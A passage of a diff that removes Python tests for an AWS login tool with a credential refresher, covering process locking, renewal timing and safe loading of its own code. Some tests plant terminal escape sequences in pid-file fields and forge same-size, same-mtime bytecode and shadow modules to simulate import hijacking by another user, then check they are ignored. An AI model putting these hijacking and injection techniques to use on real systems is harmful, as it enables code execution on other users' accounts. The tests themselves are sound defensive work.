-            b"12 5\nhost h1\nstart_time 99\nhost h2\nboot_id \x1b[2J\nrole r\nnoise x\n", False)
-        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
-                          state.start_time, state.role_arn), (12, 5, False, "h1", "", "99", "r"))
-        state = aws_login.parse_pid_file(b"12 5\nhost \x1b]0;x\x07\nstart_time 99\n", True)
-        self.assertEqual((state.host, state.start_time, state.local), (None, None, None))
-
-    def test_a_pid_file_of_an_earlier_version_is_harmless(self):
-        sleeper = self.process(["sleep", "120"])
-        self.hold_pid_file("%d 1900000000\n" % sleeper.pid)
-        state = aws_login.refresher_state("default")
-        self.assertEqual((state.pid, state.next_at, state.alive, state.host, state.boot_id,
-                          state.start_time, state.role_arn, state.local),
-                         (sleeper.pid, 1900000000, True, None, None, None, None, None))
-        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
-        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
-                         (sleeper.pid, None, None))
-        run = self.logout()
-        self.assertIn("refresher (pid %d) cannot be proved to run here" % sleeper.pid,
-                      run.stderr)
-        self.assertIsNone(sleeper.poll())
-
-    def test_an_earlier_versions_file_naming_our_refresher_still_stops_it(self):
-        fake = self.fake_refresher()
-        self.hold_pid_file("%d 1900000000\n" % fake.pid)
-        self.assertEqual(self.stop()[0], fake.pid)
-        self.assertEqual(fake.wait(20), -signal.SIGKILL)    # it ignored SIGTERM
-        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGTERM])
-
-    def test_only_a_process_started_when_the_file_says_and_running_our_refresher(self):
-        fake, other = self.fake_refresher(), self.fake_refresher("other")
-        sleeper = self.process(["sleep", "120"])
-        for pid, kw, why in [
-                (fake.pid, dict(host=self.OTHER_HOST), "runs on host %s, not here"
-                 % self.OTHER_HOST),
-                (fake.pid, dict(boot_id=str(uuid.uuid4())), "runs on another machine also "
-                 "named %s" % os.uname().nodename),
-                (fake.pid, dict(start_time=str(int(_start_ticks(fake.pid)) + 1)),
-                 "cannot be proved to run here"),
-                (other.pid, {}, "cannot be proved to run here"),
-                (sleeper.pid, {}, "cannot be proved to run here")]:
-            with self.subTest(why=why, pid=pid):
-                self.hold_pid_file(self.record(pid, **kw))
-                self.assertEqual(self.stop(), (None, "aws_login: warning: profile default's "
-                                               "refresher (pid %d) %s: it was not signalled; "
-                                               "it stops by itself within 30 s of finding its "
-                                               "credentials removed or replaced by another "
-                                               "role\n" % (pid, why)))
-                self.assertEqual((self.signals(fake), self.signals(other), sleeper.poll()),
-                                 ([], [], None))
-        self.hold_pid_file(self.record(fake.pid))
-        self.assertEqual(self.stop(), (fake.pid, ""))
-        self.assertEqual(fake.wait(20), -signal.SIGKILL)
-        self.assertEqual(self.read(fake.marker).split(), ["%d" % signal.SIGWINCH] * 5 +
-                         ["%d" % signal.SIGTERM])
-
-    def test_without_proc_ps_decides_and_nothing_is_killed(self):
-        ps = lambda pid, column: subprocess.check_output(
-            ["ps", "-o", column + "=", "-p", str(pid)]).decode().strip()
-        fake = self.fake_refresher()
-        self.addCleanup(setattr, aws_login, "PROC", aws_login.PROC)
-        aws_login.PROC = os.path.join(self.home, "no-proc")
-        lstart = ps(fake.pid, "lstart")
-        for text in ["%d 0\n" % fake.pid,                          # earlier version
-                     "%d 0\nhost %s\nstart_time %s\n" % (fake.pid, self.OTHER_HOST, lstart),
-                     "%d 0\nhost %s\nstart_time Thu Jan  1 00:00:00 2015\n"
-                     % (fake.pid, os.uname().nodename)]:
-            with self.subTest(text=text):
-                self.hold_pid_file(text)
-                self.assertIsNone(self.stop()[0])
-                self.assertEqual(self.signals(fake), [])
-        self.hold_pid_file("%d 0\nhost %s\nstart_time %s\n" % (fake.pid, os.uname().nodename,
-                                                             lstart))
-        self.assertEqual(self.stop(), (fake.pid, ""))
-        self.assertEqual(self.signals(fake), [signal.SIGTERM])      # and no SIGKILL
-        self.assertIsNone(fake.poll())
-
-    def test_this_hosts_refresher_records_where_it_runs_and_logout_stops_it(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        run = self.tool(["login", "--force"], terminal=False)
-        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
-        with open(os.path.join(self.run_dir, "default.pid")) as f:
-            lines = f.read().splitlines()
-        self.assertRegex(lines[0], r"^%d \d{10}$" % pid)
-        self.assertEqual(lines[1:], ["host " + os.uname().nodename, "boot_id " + _boot_id(),
-                                     "start_time " + _start_ticks(pid), "role " + ADMIN])
-        row = json.loads(self.tool(["status", "--output", "json"], terminal=False).stdout)[0]
-        self.assertEqual((row["refresher_pid"], row["refresher_host"], row["refresher_local"]),
-                         (pid, os.uname().nodename, True))
-        # an earlier version's file names the same process: /proc proves it ours
-        self.assertTrue(aws_login._may_signal(
-            aws_login.parse_pid_file(b"%d 0\n" % pid, True), "default"))
-        run = self.logout()
-        self.assertNotIn("warning", run.stderr)
-        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
-
-    def test_a_piped_refresher_is_known_by_its_open_pid_file(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        with open(SCRIPT, "rb") as f:
-            source = f.read()
-        run = self.tool(["login", "--force"], stdin=source, argv_prefix=[sys.executable, "-"],
-                        terminal=False)
-        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
-        with open("/proc/%d/cmdline" % pid, "rb") as f:
-            self.assertNotIn(b"_refresher_loop", f.read())
-        run = self.logout()
-        self.assertNotIn("warning", run.stderr)
-        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
-
-
-def _someone_waits_for(path):
-    """Whether a process waits for the flock on ``path`` (a "->" line in /proc/locks)."""
-    inode = ":%d " % os.stat(path).st_ino
-    with open("/proc/locks") as f:
-        return any("->" in line and inode in line for line in f)
-
-
-class LoginLockTest(LoginTestCase):
-    """One login of a profile at a time: a second one waits, says so once, then
-    sees what the first did; the refresher alive serves the credentials written."""
-
-    WAITING = "Another login of profile default is in progress; waiting for it to finish.\n"
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="bob", factor="auto", password="bob-pass", refresh="true")
-        self.lock_path = os.path.join(self.home, ".aws-login", "cache", ".default.lock")
-
-    def hold(self, path):
-        """flock ``path`` (made 0600 if missing); returns the fd to close."""
-        os.makedirs(os.path.dirname(path), 0o700, exist_ok=True)
-        fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
-        fcntl.flock(fd, fcntl.LOCK_EX)
-        return fd
-
-    def in_thread(self, function, *args, **kw):
-        result = {}
-
-        def run():
-            try:
-                result["value"] = function(*args, **kw)
-            except BaseException as e:
-                result["error"] = e
-        thread = threading.Thread(target=run)
-        thread.daemon = True
-        thread.start()
-        return thread, result
-
-    def test_two_logins_at_once_leave_the_last_ones_refresher(self):
-        for trial in range(5):
-            with self.subTest(trial=trial):
-                started = [self.in_thread(self.tool, ["login", "--force", "--role-arn", role],
-                                          terminal=False) for role in (ADMIN, DEV)]
-                runs = {}
-                for role, (thread, result) in zip((ADMIN, DEV), started):
-                    thread.join(120)
-                    runs[role] = result.get("value", result.get("error"))
-                    self.assertEqual(getattr(runs[role], "code", None), 0, runs[role])
-                role = self.credentials()["aws_login_role_arn"]
-                other = DEV if role == ADMIN else ADMIN
-                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[role].stderr)
-                self.assertTrue(match, runs)
-                pid = int(match.group(1))
-                state = aws_login.refresher_state("default")
-                self.assertEqual((state.pid, state.alive, state.role_arn), (pid, True, role),
-                                 runs)
-                self.assertNotIn(_process_state(pid), (None, "Z"))
-                match = re.search(r"A refresher \(pid (\d+)\) renews them", runs[other].stderr)
-                self.assertTrue(match, runs)
-                self.assertTrue(_wait_for(
-                    lambda: _process_state(int(match.group(1))) in (None, "Z"), 10), runs)
-                self.assertLessEqual(sum(r.stderr.count(self.WAITING) for r in runs.values()),
-                                     1, runs)
-
-    def test_a_second_login_waits_says_so_once_then_sees_the_first(self):
-        lock = self.hold(self.lock_path)
-        try:
-            thread, result = self.in_thread(self.tool, ["login", "--role-arn", ADMIN],
-                                            terminal=False)
-            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
-            self.assertEqual((self.idp.requests, os.path.exists(self.credentials_file)),
-                             ([], False))
-            # meanwhile the first login writes the credentials, starts its refresher
-            aws_login.write_credentials("default", _fake_credentials(), ADMIN)
-            sleeper = subprocess.Popen(["sleep", "120"])
-            self.addCleanup(sleeper.wait)
-            self.addCleanup(sleeper.kill)
-            pid_file = os.path.join(self.home, ".aws-login", "run", "default.pid")
-            os.makedirs(os.path.dirname(pid_file), 0o700)
-            self.addCleanup(os.close, self.hold(pid_file))
-            self.write(pid_file, "%d 1900000000\n" % sleeper.pid)
-        finally:
-            os.close(lock)
-        thread.join(60)
-        run = result.get("value", result.get("error"))
-        self.assertEqual(getattr(run, "code", None), 0, run)
-        self.assertTrue(run.stderr.startswith(self.WAITING + "Already logged in to profile "
-                                              "default as %s" % ADMIN), run)
-        self.assertEqual(run.stderr.count(self.WAITING), 1)
-        self.assertEqual(self.idp.requests, [])
-
-    def test_credential_process_renews_under_the_same_lock_quietly(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
-        lock = self.hold(self.lock_path)
-        try:
-            thread, result = self.in_thread(self.tool, ["credential-process"], terminal=False)
-            self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30), result)
-            self.assertEqual(self.idp.requests, [])
-        finally:
-            os.close(lock)
-        thread.join(60)
-        run = result.get("value", result.get("error"))
-        self.assertEqual((getattr(run, "code", None), run.stderr), (0, ""), run)
-        self.assertEqual(json.loads(run.stdout)["AccessKeyId"],
-                         self.sts.issued[-1]["AccessKeyId"])
-
-    def test_the_python_api_waits_too_even_in_another_thread_of_the_holder(self):
-        profile = aws_login.read_profile("default")
-        for call, stored in [
-                (lambda: aws_login.get_credentials("default", role_arn=DEV), DEV),
-                (lambda: aws_login.get_credentials("default", role_arn=ADMIN, store=False), DEV),
-                (lambda: aws_login.login(profile, role_arn=ADMIN)[0], ADMIN)]:
-            err = io.StringIO()
-            saved, sys.stderr = sys.stderr, err
-            try:
-                with aws_login._profile_lock("default"):        # held by this thread
-                    thread, result = self.in_thread(call)
-                    self.assertTrue(_wait_for(lambda: _someone_waits_for(self.lock_path), 30),
-                                    result)
-                    self.assertEqual(result, {})
-                thread.join(60)
-            finally:
-                sys.stderr = saved
-            self.assertEqual(result["value"].access_key_id, self.sts.issued[-1]["AccessKeyId"])
-            self.assertEqual(self.credentials()["aws_login_role_arn"], stored)
-            self.assertEqual(err.getvalue(), self.WAITING)
-        self.assertEqual(os.stat(self.lock_path).st_mode & 0o777, 0o600)
-        self.assertEqual(os.stat(os.path.dirname(self.lock_path)).st_mode & 0o777, 0o700)
-
-    def test_the_refresher_starts_before_the_lock_goes(self):
-        seen = []
-
-        def start_refresher(*args):
-            fd = os.open(self.lock_path, os.O_RDWR)
-            try:
-                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
-                seen.append("free")
-            except OSError:
-                seen.append("held")
-            finally:
-                os.close(fd)
-            return 4242
-        self.addCleanup(setattr, aws_login, "start_refresher", aws_login.start_refresher)
-        aws_login.start_refresher = start_refresher
-        err = io.StringIO()
-        saved, sys.stderr = sys.stderr, err
-        try:
-            aws_login._login_and_report(aws_login.read_profile("default"), DEV, False, False)
-        finally:
-            sys.stderr = saved
-        self.assertEqual(seen, ["held"])
-        self.assertIn("A refresher (pid 4242) renews them.", err.getvalue())
-
-
-class RenewalTimeTest(unittest.TestCase):
-    def test_sdks_never_see_under_15_minutes_and_short_sessions_renew_at_half(self):
-        r = aws_login.renewal_time
-        self.assertEqual(r(0, 3600), 3600 - 20 * 60)
-        self.assertEqual(r(0, 43200), 43200 - 20 * 60)
-        self.assertEqual(r(0, 900), 450)
-        self.assertEqual(r(0, 8), 4)
-        self.assertEqual(r(0, 2400), 1200)     # the two rules meet at 40 minutes
-        for lifetime in range(1800, 43201, 60):
-            self.assertGreaterEqual(lifetime - r(0, lifetime), 15 * 60, lifetime)
-            self.assertGreater(r(0, lifetime), 0)
-
-
-class RefresherStepTest(LoginTestCase):
-    """One Refresher in this process, its wall clock in the test's hands."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.configure(username="alice", factor="push")
-        run = self.tool(["login"], [("Password: ", PASSWORD)])
-        self.assert_logged_in(run)
-        self.expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
-        self.now = [time.time()]
-        self.lines = []
-        self.refresher = aws_login.Refresher("default", ADMIN, self.now[0],
-                                             self.expires.timestamp(),
-                                             clock=lambda: self.now[0], log=self.lines.append)
-
-    def test_sleeps_in_slices_then_renews_before_expiry(self):
-        delay = self.refresher.step()
-        self.assertEqual(delay, aws_login.REFRESH_SLICE)
-        self.assertEqual(len(self.sts.requests), 1)
-        self.now[0] = self.expires.timestamp() - 20 * 60 - 1
-        self.assertEqual(self.refresher.step(), 1)
-        self.now[0] += 1
-        old_key = self.credentials()["aws_access_key_id"]
-        self.assertIsNotNone(self.refresher.step())
-        self.assertEqual(len(self.sts.requests), 2)
-        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
-        self.assertEqual(self.credentials()["aws_access_key_id"],
-                         self.sts.issued[-1]["AccessKeyId"])
-        self.assertNotEqual(self.credentials()["aws_access_key_id"], old_key)
-        self.assertRegex(self.lines[-1], r"^renewed; the credentials expire at \S+Z; next "
-                                         r"renewal at \S+Z$")
-
-    def test_a_wall_clock_jump_renews_at_once(self):
-        self.assertEqual(self.refresher.step(), aws_login.REFRESH_SLICE)
-        self.now[0] += 5 * 3600             # the laptop slept through the renewal time
-        self.refresher.step()
-        self.assertEqual(len(self.sts.requests), 2)
-
-    def test_transient_idp_outage_is_retried_with_backoff(self):
-        self.now[0] = self.refresher.next_at
-        self.idp.override = (503, {"Content-Type": "text/html"}, b"<html>down</html>")
-        first = self.refresher.step()
-        self.assertIn("trying again in 10s", self.lines[-1])
-        self.assertEqual((first, len(self.sts.requests)), (10, 1))
-        self.now[0] += 10
-        self.assertEqual(self.refresher.step(), 20)
-        self.idp.override = None
-        self.now[0] += 20
-        self.refresher.step()
-        self.assertEqual(len(self.sts.requests), 2)
-        self.assertTrue(self.lines[-1].startswith("renewed"))
-        self.assertEqual(self.refresher.failures, 0)
-
-    def test_gives_up_at_expiry(self):
-        self.idp.override = (503, {}, b"")
-        self.now[0] = self.expires.timestamp() + 1
-        self.assertIsNone(self.refresher.step())
-        self.assertIn("expired", self.lines[-1])
-
-    def test_sts_throttling_is_transient(self):
-        self.now[0] = self.refresher.next_at
-        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 4)
-        self.assertIsNotNone(self.refresher.step())
-        self.assertIn("Throttling", self.lines[-1])
-
-    def test_stops_when_logged_out_or_replaced(self):
-        aws_login.write_credentials("default", _fake_credentials(), DEV)
-        self.assertIsNone(self.refresher.step())
-        self.assertIn("another login replaced the credentials (role %s)" % DEV, self.lines[-1])
-        aws_login.remove_credentials("default")
-        self.assertIsNone(self.refresher.step())
-        self.assertIn("logged out", self.lines[-1])
-
-    def test_a_logout_during_renewal_wins(self):
-        self.now[0] = self.refresher.next_at
-        self.idp.override = lambda handler: aws_login.remove_credentials("default") and None
-        self.assertIsNone(self.refresher.step())
-        self.assertIsNone(self.credentials())
-
-    def test_needs_a_person_logs_why_and_stops(self):
-        self.idp.expire_sessions()
-        self.now[0] = self.refresher.next_at
-        self.assertIsNone(self.refresher.step())
-        self.assertIn("no password is stored", self.lines[-1])
-        self.assertEqual(len(self.sts.requests), 1)
-
-    def test_keyring_password_with_the_configured_factor(self):
-        in_process_keyring(self, {("awscli_login", "alice@" + self.idp.host_port): PASSWORD})
-        self.configure(username="alice", factor="push", enable_keyring="true")
-        self.idp.expire_sessions()
-        self.now[0] = self.refresher.next_at
-        self.assertIsNotNone(self.refresher.step())
-        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
-        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")
-        self.assertEqual(len(self.sts.requests), 2)
-
-
-class RefresherProcessTest(LoginTestCase):
-    """The real forked refresher, with credentials that live 8 seconds."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        self.sts.clock = lambda: time.time() - 3600 + 8
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
-        self.log = os.path.join(self.home, ".aws-login", "log", "default.log")
-
-    def refresher_pid(self, run):
-        match = re.search(r"A refresher \(pid (\d+)\) renews them", run.stderr)
-        self.assertTrue(match, run)
-        return int(match.group(1))
-
-    def test_renews_before_expiry_and_logout_stops_it(self):
-        started = time.time()
-        run = self.tool(["login"], terminal=False,
-                        env={"AWS_SECRET_ACCESS_KEY": "caller-secret-in-env"})
-        self.assertLess(time.time() - started, 5)       # returned at once, pipes released
-        self.assert_logged_in(run)
-        pid = self.refresher_pid(run)
-        first = self.credentials()["aws_access_key_id"]
-        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 10),
-                        self.read(self.log))
-        self.assertEqual(self.credentials()["aws_access_key_id"],
-                         self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(self.idp.logins[-1], ("alice", "session"))
-        self.assertEqual(os.stat(self.log).st_mode & 0o777, 0o600)
-        renewed = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ default\[%d\] renewed" % pid
-        # the child writes the file, then the loop logs: the line follows shortly
-        self.assertTrue(_wait_for(lambda: re.search(renewed, self.read(self.log)), 5),
-                        self.read(self.log))
-        with open("/proc/%d/cmdline" % pid, "rb") as f:
-            cmdline = f.read()
-        with open("/proc/%d/environ" % pid, "rb") as f:
-            environ = f.read()
-        with open("/proc/%d/stat" % pid) as f:
-            self.assertNotEqual(f.read().split()[5], "0")      # a session of its own
-        self.assertEqual(os.readlink("/proc/%d/cwd" % pid), "/")
-        self.assertIn(b"_refresher_loop", cmdline)      # a fresh, small interpreter
-        for secret in [PASSWORD, "caller-secret-in-env"] + [
-                c["SecretAccessKey"] for c in self.sts.issued] + [
-                c["SessionToken"] for c in self.sts.issued]:
-            self.assertNotIn(secret.encode(), cmdline + environ + self.read(self.log).encode())
-        run = self.tool(["logout"], terminal=False)
-        self.assertEqual(run.code, 0, run)
-        self.assertIn(_process_state(pid), (None, "Z"))
-        self.assertIsNone(self.credentials())
-        self.assertFalse(os.path.exists(os.path.join(self.home, ".aws-login", "run",
-                                                     "default.pid")))
-
-    def test_one_refresher_per_profile(self):
-        self.sts.clock = time.time
-        pid = self.refresher_pid(self.tool(["login"], terminal=False))
-        run = self.tool(["login"], terminal=False)
-        self.assertEqual(run.code, 0)
-        self.assertIn("Already logged in to profile default", run.stderr)
-        self.assertIn("(pid %d)" % pid, run.stderr)
-        self.assertEqual(len(self.sts.requests), 1)
-        second = self.refresher_pid(self.tool(["login", "--force"], terminal=False))
-        self.assertNotEqual(pid, second)
-        self.assertIn(_process_state(pid), (None, "Z"))
-        self.assertNotIn(_process_state(second), (None, "Z"))
-        self.assertEqual(aws_login.refresher_state("default").pid, second)
-
-    def test_exits_when_another_login_takes_another_role(self):
-        self.idp.users["alice"]["roles"].append(DEV + "," + PROVIDER_A)
-        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true",
-                       role_arn=ADMIN)
-        pid = self.refresher_pid(self.tool(["login"], terminal=False))
-        aws_login.write_credentials("default", _fake_credentials(), DEV)
-        self.assertTrue(_wait_for(lambda: _process_state(pid) in (None, "Z"), 10))
-        self.assertIn("another login replaced the credentials", self.read(self.log))
-
-    def test_piped_bootstrap_returns_at_once(self):
-        with open(SCRIPT, "rb") as f:
-            source = f.read()
-        started = time.time()
-        run = self.tool(["login"], stdin=source, argv_prefix=[sys.executable, "-"],
-                        terminal=False)
-        self.assertLess(time.time() - started, 5)
-        self.refresher_pid(run)
-
-
-# ---------------------------------------------------------------------------
-# credential_process and modes
-# ---------------------------------------------------------------------------
-
-class IsolatedStartTest(LoginTestCase):
-    """The configured command starts at the interpreter's floor (-I -S) and
-    starts again normally when a renewal may need site-packages."""
-    SLOW = True         # waits on real time: the runner starts it first
-
-    HEAVY = ("ssl", "urllib.request", "xml", "http.cookiejar", "argparse")
-
-    def setUp(self):
-        LoginTestCase.setUp(self)
-        # A Python whose site-packages hold `keyring` (our stand-in), as pip puts it.
-        self.venv = os.path.join(self.home, "venv")
-        subprocess.check_call([sys.executable, "-m", "venv", "--without-pip", self.venv])
-        self.python = os.path.join(self.venv, "bin", "python")
-        site = subprocess.check_output([self.python, "-c", "import sysconfig;print("
-                                        "sysconfig.get_paths()['purelib'])"]).decode().strip()
-        self.write(os.path.join(site, "keyring.py"), FakeKeyring.SOURCE)
-        self.keyring = os.path.join(self.home, "keyring.json")
-        os.environ["FAKE_KEYRING_FILE"] = self.keyring
-        with open(self.keyring, "w") as f:
-            json.dump({"awscli_login alice@" + self.idp.host_port: PASSWORD}, f)
-        self.configure(username="alice", factor="auto", enable_keyring="true")
-        self.aws_config = os.environ["AWS_CONFIG_FILE"]
-
-    def configured_command(self):
-        import configparser
-        import shlex
-        parser = configparser.RawConfigParser()
-        parser.read(self.aws_config)
-        return shlex.split(parser.get("default", "credential_process"))
-
-    def serve(self, command, extra_env=None):
-        return subprocess.run(command, env=dict(os.environ, **(extra_env or {})),
-                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-
-    def test_renews_with_keyring_from_site_packages_then_serves_at_the_floor(self):
-        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
-                       terminal=False, argv_prefix=[self.python, SCRIPT])
-        self.assertEqual(run.code, 0, run)
-        command = self.configured_command()
-        self.assertEqual(command[:4], [self.python, "-I", "-S", "-c"])
-        # No cache: the isolated start cannot import keyring, so it starts again
-        # normally, and the keyring's password logs in.
-        first = self.serve(command)
-        self.assertEqual(first.returncode, 0, first.stderr)
-        self.assertEqual(json.loads(first.stdout.decode())["AccessKeyId"],
-                         self.sts.issued[-1]["AccessKeyId"])
-        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
-                         ("alice", PASSWORD))
-        requests = len(self.idp.requests) + len(self.sts.requests)
-        # Cached: served by the isolated interpreter, with no heavy module and no
-        # PYTHON* variable obeyed (a planted json.py on PYTHONPATH is ignored).
-        trap = os.path.join(self.home, "trap")
-        for module in self.HEAVY + ("json",):
-            self.write(os.path.join(trap, module.split(".")[0] + ".py"), "raise SystemExit(99)\n")
-        timed = [command[0], "-X", "importtime"] + command[1:]
-        second = self.serve(timed, {"PYTHONPATH": trap})
-        self.assertEqual(second.returncode, 0, second.stderr)
-        self.assertEqual(second.stdout, first.stdout)
-        self.assertEqual(len(self.idp.requests) + len(self.sts.requests), requests)
-        imported = re.findall(r"import time:\s+\d+ \|\s+\d+ \|\s*(\S+)", second.stderr.decode())
-        self.assertTrue(imported or sys.version_info < (3, 7), second.stderr)  # -X importtime
-        for module in imported:
-            self.assertNotIn(module.split(".")[0], [h.split(".")[0] for h in self.HEAVY])
-        self.assertNotIn("site", imported)
-
-    def test_the_quick_answer_serves_only_what_read_cache_would(self):
-        run = run_tool(["configure", "--credential-process"], env=dict(os.environ),
-                       terminal=False, argv_prefix=[self.python, SCRIPT])
-        self.assertEqual(run.code, 0, run)
-        command = self.configured_command()
-        cache = os.path.join(self.home, ".aws-login", "cache", "default")
-        fresh = aws_login.credential_process_json(_fake_credentials(1))
-        good = "%s\nexpires %d\nrole %s\n%s\n" % (aws_login.CACHE_HEADER,
-                                                time.time() + 3600, ADMIN, fresh)
-        self.write(cache, good)
-        self.assertEqual(self.serve(command).stdout.decode(), fresh + "\n")
-        self.assertEqual(self.idp.requests, [])
-        for name, text, owner in (
-                ("stale", good.replace("expires %d" % (time.time() + 3600),
-                                       "expires %d" % (time.time() + 60)), None),
-                ("another header", good.replace("cache 1", "cache 2"), None),
-                ("not a number", good.replace("expires ", "expires x"), None),
-                ("another user's", good, 4242)):
-            if owner and os.getuid() != 0:
-                continue
-            self.write(cache, text)
-            if owner:
-                os.chown(cache, owner, owner)
-            run = self.serve(command)
-            self.assertNotEqual(run.stdout.decode(), fresh + "\n", name)
-            self.assertNotIn(fresh, run.stdout.decode(), name)
-            if owner:
-                os.chown(cache, 0, 0)
-
-    def test_the_isolated_refresher_renews_with_keyring_from_site_packages(self):
-        self.sts.clock = lambda: time.time() - 3600 + 8      # 8-second credentials
-        self.configure(refresh="true")
-        run = run_tool(["login"], env=dict(os.environ), terminal=False,
-                       argv_prefix=[self.python, SCRIPT])
-        self.assertEqual(run.code, 0, run)
-        pid = int(re.search(r"A refresher \(pid (\d+)\)", run.stderr).group(1))
-        self.addCleanup(self.reap_refreshers)
-        def cmdline():
-            with open("/proc/%d/cmdline" % pid, "rb") as f:
-                return f.read().split(b"\0")
-        # it reports its pid, then starts the small interpreter: sleeps isolated
-        self.assertTrue(_wait_for(lambda: cmdline()[1:3] == [b"-I", b"-S"], 10), cmdline())
-        self.idp.expire_sessions()          # the renewal needs the keyring's password
-        first = self.credentials()["aws_access_key_id"]
-        log = os.path.join(self.home, ".aws-login", "log", "default.log")
-        self.assertTrue(_wait_for(lambda: self.credentials()["aws_access_key_id"] != first, 15),
-                        self.read(log))
-        self.assertEqual(self.idp.logins[-1], ("alice", "password"))
-        self.assertEqual(_parse_basic(self.idp.requests[-1]["authorization"]),
-                         ("alice", PASSWORD))
-
-    def test_an_older_line_keeps_working_and_configure_upgrades_it(self):
-        old = ("%s -c 'import sys;sys.path[0]=%s;import aws_login as m;sys.exit(m.main())' "
-               "--profile default credential-process" % (self.python, json.dumps(HERE)))
-        self.write(self.aws_config, "[default]\nregion = eu-west-1\ncredential_process = %s\n"
-                   % old)
-        import shlex
-        served = self.serve(shlex.split(old))
-        self.assertEqual(served.returncode, 0, served.stderr)
-        self.assertEqual(json.loads(served.stdout.decode())["Version"], 1)
-        run = run_tool(["configure", "--region", "eu-west-1"], env=dict(os.environ),
-                       terminal=False, argv_prefix=[self.python, SCRIPT])
-        self.assertEqual(run.code, 0, run)
-        command = self.configured_command()
-        self.assertEqual(command[1:3], ["-I", "-S"])
-        self.assertTrue(self.read(self.aws_config).startswith("[default]\nregion = eu-west-1\n"
-                                                              "credential_process = "))
-        again = self.serve(command)
-        self.assertEqual(again.returncode, 0, again.stderr)
-        self.assertEqual(again.stdout, served.stdout)       # the same cache, no new login
-
-
-class BootstrapTest(HomeTestCase):
-    """The command configure writes (and the refresher's interpreter) loads our
-    file by its path, with bytecode nobody else could have planted."""
-
-    def shared_copy(self):
-        """aws_login.py in a sticky folder everyone can write to, like /tmp."""
-        folder = os.path.join(self.home, "shared")
-        os.mkdir(folder)
-        os.chmod(folder, 0o1777)
-        copy = os.path.join(folder, "aws_login.py")
-        shutil.copy(SCRIPT, copy)
-        return folder, copy
-
-    def plant(self, folder, copy):
-        """What another user could leave there: a package and a module that win
-        an import by name, and bytecode whose header matches our file's."""
-        self.write(os.path.join(folder, "aws_login", "__init__.py"), "import sys; sys.exit(97)\n")
-        self.write(os.path.join(folder, "argparse.py"), "import sys; sys.exit(98)\n")
-        st = os.stat(copy)
-        with open(copy, "rb") as f:
-            real = f.read()
-        evil = b"import sys; sys.exit(99)\n"
-        evil += b"#" * (len(real) - len(evil) - 1) + b"\n"       # the same size...
-        try:
-            with open(copy, "wb") as f:
-                f.write(evil)
-            os.utime(copy, (st.st_atime, st.st_mtime))          # ...and the same mtime
-            import importlib.util
-            import py_compile
-            py_compile.compile(copy, cfile=importlib.util.cache_from_source(copy),
-                               doraise=True)
-        finally:
-            with open(copy, "wb") as f:
-                f.write(real)
-            os.utime(copy, (st.st_atime, st.st_mtime))
-        os.chmod(os.path.join(folder, "__pycache__"), 0o777)
-
-    def configured_command(self, copy):
-        run = run_tool(["configure", "--ecp-endpoint-url", "https://idp.example.edu/ecp",
-                        "--credential-process"], env=dict(os.environ), terminal=False,
-                       argv_prefix=[sys.executable, copy])
-        self.assertEqual(run.code, 0, run)
-        import configparser
-        import shlex
-        parser = configparser.RawConfigParser()
-        parser.read(os.environ["AWS_CONFIG_FILE"])
-        return shlex.split(parser.get("default", "credential_process"))
-
-    def test_planted_bytecode_packages_and_modules_are_never_loaded(self):
-        folder, copy = self.shared_copy()
-        command = self.configured_command(copy)
-        self.plant(folder, copy)
-        # Proof that the planted files would win a plain import by name:
-        plain = subprocess.run([sys.executable, "-c", "import aws_login"], cwd=folder,
-                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        self.assertEqual(plain.returncode, 97)
-        aws_login.write_cache("default", _fake_credentials(), ADMIN)
-        for cwd in (folder, self.home):
-            proc = subprocess.run(command, cwd=cwd, env=dict(os.environ),
-                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-            self.assertEqual(proc.returncode, 0, proc.stderr)
-            self.assertEqual(json.loads(proc.stdout.decode())["Version"], 1)
-            # argparse is loaded when the cache cannot answer: from the stdlib only.
-            proc = subprocess.run(command[:-1] + ["--help"], cwd=cwd, env=dict(os.environ),
-                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-            self.assertEqual(proc.returncode, 0, proc.stderr)
-            self.assertIn(b"usage:", proc.stdout)
-
-    def test_bytecode_lives_in_our_own_folder(self):
-        folder, copy = self.shared_copy()
-        command = self.configured_command(copy)
-        self.assertNotIn(" -c import aws_login", " ".join(command))
-        if sys.version_info >= (3, 8):
